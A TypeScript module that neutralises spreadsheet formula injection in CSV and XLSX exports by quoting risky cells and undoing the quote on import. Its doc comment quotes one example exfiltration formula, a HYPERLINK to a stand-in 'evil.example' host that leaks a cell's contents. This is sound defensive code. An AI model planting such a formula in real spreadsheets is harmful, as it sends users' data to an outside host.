/**
 * Spreadsheet formula injection (CSV injection, OWASP): a cell whose text starts with
 * `=`, `+`, `-`, `@`, a tab or a carriage return may be run as a formula when a CSV or
 * XLSX file is opened (`=HYPERLINK("http://evil.example/?leak="&B2, "…")`). Every CSV
 * and XLSX the project writes passes its cells through `spreadsheetCell`, which puts a
 * single quote in front of such text, as OWASP advises.
 *
 * Numbers stay numbers: a number value is written as it is (a number cell in XLSX,
 * `-3` in CSV), and so is a text that is nothing but a decimal number (`-3`, `+1.5`,
 * `-2e3`: pg returns numeric columns as text), since a spreadsheet reads it as that
 * number and nothing else. Anything more (`-3+A1`, `-1,5`, `+84 912 345 678`) is
 * quoted. Our importers undo the quote (`restoreSpreadsheetText`), so an export
 * imports back unchanged (`restoreSpreadsheetText(neutraliseFormula(t)) === t` for every t).
 */

// Quotes already in front count too, so that restoring gives back exactly the text written.
const FORMULA_START = /^'*[=+\-@\t\r]/;
const PLAIN_NUMBER = /^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$/;
const QUOTED_FORMULA = /^'(?='*[=+\-@\t\r])/;

/** Text made safe for a spreadsheet cell. */
export function neutraliseFormula(text: string): string {
  return FORMULA_START.test(text) && !PLAIN_NUMBER.test(text) ? `'${text}` : text;
}

/** Any cell value: text neutralised, numbers, dates, booleans and empty cells unchanged. */
export function spreadsheetCell<T>(value: T): T | string {
  return typeof value === 'string' ? neutraliseFormula(value) : value;
}

/** Every cell of a row (an array or an object of cells). */
export function spreadsheetRow<T extends readonly unknown[] | Record<string, unknown>>(row: T): T {
  if (Array.isArray(row)) return row.map(spreadsheetCell) as unknown as T;
  return Object.fromEntries(Object.entries(row).map(([k, v]) => [k, spreadsheetCell(v)])) as T;
}

/** The inverse, for our importers: `'=x` read from a file we wrote is `=x`. */
export function restoreSpreadsheetText(text: string): string {
  return text.replace(QUOTED_FORMULA, '');
}
